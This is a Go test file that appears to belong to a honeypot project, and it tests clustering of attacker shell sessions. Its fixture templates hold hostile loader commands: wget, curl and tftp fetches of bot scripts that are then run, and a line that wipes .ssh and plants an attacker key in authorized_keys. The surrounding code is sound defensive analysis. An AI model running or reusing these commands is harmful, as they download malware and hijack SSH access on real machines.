package live

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"honeynet/internal/cluster"
	"honeynet/internal/session"
	"honeynet/internal/textdist"
)

// assignCorpus fabricates command-text variants around a few distinct
// templates, the shape live assignment sees from loader campaigns.
func assignCorpus(n int, seed int64) []string {
	templates := []string{
		"cd /tmp; wget http://%s/bot.sh; chmod +x bot.sh; ./bot.sh",
		"cd ~ && rm -rf .ssh && echo ssh-rsa %s >> .ssh/authorized_keys",
		"uname -a; nproc; curl -fsSL http://%s/x86 -o /tmp/x; /tmp/x",
		"/bin/busybox %s; tftp -g -r a.sh 10.0.0.1; sh a.sh",
	}
	rng := rand.New(rand.NewSource(seed))
	out := make([]string, 0, n)
	for i := 0; i < n; i++ {
		t := templates[rng.Intn(len(templates))]
		tag := string([]byte{
			byte('a' + rng.Intn(26)), byte('a' + rng.Intn(26)),
			byte('a' + rng.Intn(26)), byte('a' + rng.Intn(26)),
		})
		out = append(out, replaceVerb(t, tag))
	}
	return out
}

func replaceVerb(t, tag string) string {
	b := make([]byte, 0, len(t)+len(tag))
	for i := 0; i < len(t); i++ {
		if t[i] == '%' && i+1 < len(t) && t[i+1] == 's' {
			b = append(b, tag...)
			i++
			continue
		}
		b = append(b, t[i])
	}
	return string(b)
}

// TestAssignDeterminism is the second correctness bar: identical seed
// and arrival order must yield identical medoids, assignments, and
// counters.
func TestAssignDeterminism(t *testing.T) {
	texts := assignCorpus(3000, 42)
	run := func() *assigner {
		a := newAssigner(8, 64, 0.4, 0.3, 100, 7)
		for _, txt := range texts {
			a.observe(txt)
		}
		return a
	}
	a, b := run(), run()
	if len(a.medoids) != len(b.medoids) {
		t.Fatalf("medoid counts differ: %d vs %d", len(a.medoids), len(b.medoids))
	}
	for i := range a.medoids {
		if a.medoids[i].text != b.medoids[i].text {
			t.Fatalf("medoid %d differs: %q vs %q", i, a.medoids[i].text, b.medoids[i].text)
		}
		if a.medoids[i].count != b.medoids[i].count || a.medoids[i].sumDist != b.medoids[i].sumDist {
			t.Fatalf("medoid %d stats differ", i)
		}
	}
	if a.assigned != b.assigned || a.pruned != b.pruned || a.kernel != b.kernel ||
		a.reclusters != b.reclusters || a.silhouette != b.silhouette {
		t.Fatalf("counters differ: %+v-ish vs %+v-ish",
			[]int64{a.assigned, a.pruned, a.kernel, a.reclusters},
			[]int64{b.assigned, b.pruned, b.kernel, b.reclusters})
	}
	for i := range a.reservoir {
		if a.reservoir[i].text != b.reservoir[i].text {
			t.Fatalf("reservoir %d differs", i)
		}
	}
}

// TestNearestPruningExact verifies the multiset lower bound never
// changes the answer: nearest with pruning must equal the brute-force
// argmin over the full kernel.
func TestNearestPruningExact(t *testing.T) {
	texts := assignCorpus(400, 9)
	a := newAssigner(16, 32, 0.4, 0.3, 0, 3)
	ref := textdist.NewScratch()
	for _, txt := range texts {
		tokens := a.interner.Intern(textdist.Tokenize(txt))
		// Brute force before observe mutates the medoid set.
		wantBest, wantDist := -1, 0.0
		for i := range a.medoids {
			d := ref.NormalizedIDs(tokens, a.medoids[i].tokens)
			if wantBest < 0 || d < wantDist {
				wantBest, wantDist = i, d
			}
		}
		got, gotDist := a.nearest(tokens)
		if got != wantBest || gotDist != wantDist {
			t.Fatalf("nearest (%d, %v) != brute force (%d, %v) for %q",
				got, gotDist, wantBest, wantDist, txt)
		}
		a.observe(txt)
	}
	if a.pruned == 0 {
		t.Fatal("lower bound never pruned anything — test corpus too uniform or bound broken")
	}
}

// TestAssignClusterQuality checks the leader step actually separates
// the four template families instead of collapsing them.
func TestAssignClusterQuality(t *testing.T) {
	texts := assignCorpus(2000, 5)
	a := newAssigner(16, 128, 0.4, 0.25, 200, 1)
	for _, txt := range texts {
		c, d := a.observe(txt)
		if c < 0 || c >= len(a.medoids) {
			t.Fatalf("bad cluster index %d", c)
		}
		if d < 0 || d > 1 {
			t.Fatalf("distance %v out of [0,1]", d)
		}
	}
	if len(a.medoids) < 4 {
		t.Fatalf("expected at least the 4 template families, got %d clusters", len(a.medoids))
	}
	// Drift per cluster should be small: variants differ by one token.
	for i := range a.medoids {
		m := &a.medoids[i]
		if m.count > 10 && m.sumDist/float64(m.count) > 0.5 {
			t.Fatalf("cluster %d mean dist %v — variants not cohering", i, m.sumDist/float64(m.count))
		}
	}
}

// TestReclusterTriggers forces silhouette decay (drifting templates
// after the medoids are founded) and checks the rebuild fires.
func TestReclusterTriggers(t *testing.T) {
	a := newAssigner(4, 64, 0.3, 0.99, 50, 1) // impossible floor: every check reclusters
	texts := assignCorpus(600, 13)
	for _, txt := range texts {
		a.observe(txt)
	}
	if a.checks == 0 {
		t.Fatal("drift check never ran")
	}
	if a.reclusters == 0 {
		t.Fatal("silhouette floor 0.99 should have forced a recluster")
	}
	if len(a.medoids) == 0 || len(a.medoids) > 4 {
		t.Fatalf("bad medoid count %d after recluster", len(a.medoids))
	}
}

// TestAssignZeroClusters: MaxClusters 0 must be a safe no-op.
func TestAssignZeroClusters(t *testing.T) {
	a := newAssigner(0, 8, 0.4, 0.3, 10, 1)
	for _, txt := range assignCorpus(50, 2) {
		if c, _ := a.observe(txt); c != -1 {
			t.Fatalf("expected -1 with MaxClusters 0, got %d", c)
		}
	}
}

// fullMatrix is the oracle for the persistent reservoir matrix: every
// pair computed from scratch, the way each drift check used to.
func fullMatrix(a *assigner) *cluster.Matrix {
	n := len(a.reservoir)
	ref := textdist.NewScratch()
	m := cluster.NewMatrix(n)
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			m.Set(i, j, ref.NormalizedIDs(a.reservoir[i].tokens, a.reservoir[j].tokens))
		}
	}
	return m
}

// forceFullRebuild makes a's next drift check recompute every pair.
func forceFullRebuild(a *assigner) {
	a.matrix = nil
	for i := range a.reservoir {
		a.stale[i] = true
	}
}

// TestReservoirMatrixExact: after every drift check the persistent
// matrix must equal a from-scratch build cell for cell — while the
// reservoir is still growing (the packed layout changes with N), once
// it is full and a check only refreshes the slots replaced since the
// last one, and across forced re-clusterings.
func TestReservoirMatrixExact(t *testing.T) {
	var simTexts []string
	for _, r := range simRecords(t, 5000, 21) {
		if len(r.Downloads) > 0 {
			simTexts = append(simTexts, r.CommandText())
		}
	}
	for _, tc := range []struct {
		name  string
		a     *assigner
		texts []string
	}{
		{"growth", newAssigner(8, 128, 0.4, 0.3, 10, 7), assignCorpus(1500, 42)},
		{"steady", newAssigner(8, 64, 0.4, 0.3, 100, 3), assignCorpus(6000, 9)},
		{"recluster every check", newAssigner(4, 64, 0.3, 0.99, 50, 1), assignCorpus(600, 13)}, // TestReclusterTriggers
		{"simulate corpus, defaults", newAssigner(24, 192, 0.6, 0.25, 256, 1), simTexts},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := tc.a
			var grew, partial int // checks that resized the matrix; that refreshed some slots, not all
			for _, txt := range tc.texts {
				checks, oldN := a.checks, 0
				if a.matrix != nil {
					oldN = a.matrix.N
				}
				stale := 0
				for _, s := range a.stale[:len(a.reservoir)] {
					if s {
						stale++
					}
				}
				a.observe(txt) // its sample() may make one more slot stale
				if a.checks == checks {
					continue
				}
				want := fullMatrix(a)
				if a.matrix.N != want.N || !slices.Equal(a.matrix.Packed(), want.Packed()) {
					t.Fatalf("check %d: persistent matrix (n=%d) differs from the full build (n=%d)", a.checks, a.matrix.N, want.N)
				}
				if slices.Contains(a.stale, true) {
					t.Fatalf("check %d left stale slots behind", a.checks)
				}
				if oldN > 0 && a.matrix.N != oldN {
					grew++
				}
				if oldN == a.matrix.N && stale+1 < oldN {
					partial++
				}
			}
			if a.checks == 0 {
				t.Fatal("no drift check ran")
			}
			t.Logf("%d checks: %d resized the matrix, %d refreshed only part of it, %d reclusters", a.checks, grew, partial, a.reclusters)
			switch tc.name {
			case "growth":
				if grew == 0 {
					t.Error("the matrix never changed size: growth phase not covered")
				}
			case "recluster every check":
				if a.reclusters == 0 {
					t.Error("no recluster ran")
				}
				fallthrough
			default:
				if partial == 0 {
					t.Error("no check was incremental")
				}
			}
		})
	}
}

// TestSnapshotMatchesFullRebuild: the /live document for a fixed seed
// and arrival order is byte-identical whether drift checks refresh the
// matrix incrementally or rebuild it whole.
func TestSnapshotMatchesFullRebuild(t *testing.T) {
	recs := simRecords(t, 100000, 8)
	run := func(full bool) []byte {
		// A floor this high makes most checks re-cluster, so the matrix
		// decides the medoids the snapshot shows.
		p := NewPipeline(Options{Seed: 5, SilhouetteFloor: 0.9, RecheckEvery: 64})
		for _, r := range recs {
			if full {
				forceFullRebuild(p.asg)
			}
			p.Observe(r)
		}
		s := p.Snapshot()
		if s.Reclusters == 0 {
			t.Fatal("no recluster ran: the matrix never reached the snapshot")
		}
		s.Uptime = ""
		b, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	if inc, full := run(false), run(true); string(inc) != string(full) {
		t.Fatalf("snapshots differ:\nincremental %s\nfull        %s", inc, full)
	}
}

// TestInternerStaysBounded: download sessions that each fetch a fresh
// random file name add new tokens forever, but the interner only has to
// hold the medoid and reservoir texts' tokens. It must stay bounded,
// and its rebuilds must change no assignment, distance or snapshot
// field against an assigner (and a pipeline) that never rebuilds.
func TestInternerStaysBounded(t *testing.T) {
	templates := []string{
		"cd /tmp; wget http://198.51.100.7/%s; chmod +x %s; ./%s",
		"cd /var/run; curl -O http://203.0.113.9/%s; sh %s",
		"busybox tftp -g -r %s 192.0.2.4; chmod 777 %s; ./%s x86",
	}
	// A bare assigner whose impossible silhouette floor reclusters at
	// every check, and a pipeline at its defaults, each with a twin
	// that keeps every token.
	a := newAssigner(maxClusters, reservoirSize, newClusterDist, 0.99, 64, 1)
	aRef := newAssigner(maxClusters, reservoirSize, newClusterDist, 0.99, 64, 1)
	aRef.keepInterner = true
	p, pRef := NewPipeline(Options{}), NewPipeline(Options{})
	pRef.asg.keepInterner = true

	rng := rand.New(rand.NewSource(5))
	start := time.Date(2023, 3, 1, 0, 0, 0, 0, time.UTC)
	rebuilds := 0
	for i := 0; i < 6000; i++ {
		name := fmt.Sprintf("%08x", rng.Uint32())
		r := &session.Record{
			Start:     start.Add(time.Duration(i) * time.Minute),
			Downloads: []session.Download{{SourceIP: "198.51.100.7"}},
		}
		for _, c := range strings.Split(strings.ReplaceAll(templates[rng.Intn(len(templates))], "%s", name), "; ") {
			r.Commands = append(r.Commands, session.Command{Raw: c})
		}
		p.Observe(r)
		pRef.Observe(r)

		before := a.interner.Len()
		gotC, gotD := a.observe(r.CommandText())
		wantC, wantD := aRef.observe(r.CommandText())
		if gotC != wantC || gotD != wantD {
			t.Fatalf("session %d: assigned (%d, %v), without rebuilds (%d, %v)", i, gotC, gotD, wantC, wantD)
		}
		if a.interner.Len() < before {
			rebuilds++
		}
		// One observation adds at most its own tokens past the limit.
		if n, limit := a.interner.Len(), internSlack*max(a.held, internFloor)+len(textdist.Tokenize(r.CommandText())); n > limit {
			t.Fatalf("session %d: interner holds %d tokens, over %d", i, n, limit)
		}
	}
	if rebuilds == 0 || a.reclusters == 0 {
		t.Fatalf("%d rebuilds, %d reclusters: both paths must run (%d tokens; %d without rebuilds)",
			rebuilds, a.reclusters, a.interner.Len(), aRef.interner.Len())
	}
	if n := p.asg.interner.Len(); n >= pRef.asg.interner.Len()/2 {
		t.Errorf("the pipeline's interner holds %d tokens, %d without rebuilds", n, pRef.asg.interner.Len())
	}
	got, want := p.Snapshot(), pRef.Snapshot()
	got.Uptime, want.Uptime = "", ""
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("snapshots differ:\n%+v\n%+v", got, want)
	}
	t.Logf("%d rebuilds, %d reclusters: interner %d tokens, %d without rebuilds; pipeline %d, %d without",
		rebuilds, a.reclusters, a.interner.Len(), aRef.interner.Len(), p.asg.interner.Len(), pRef.asg.interner.Len())
}
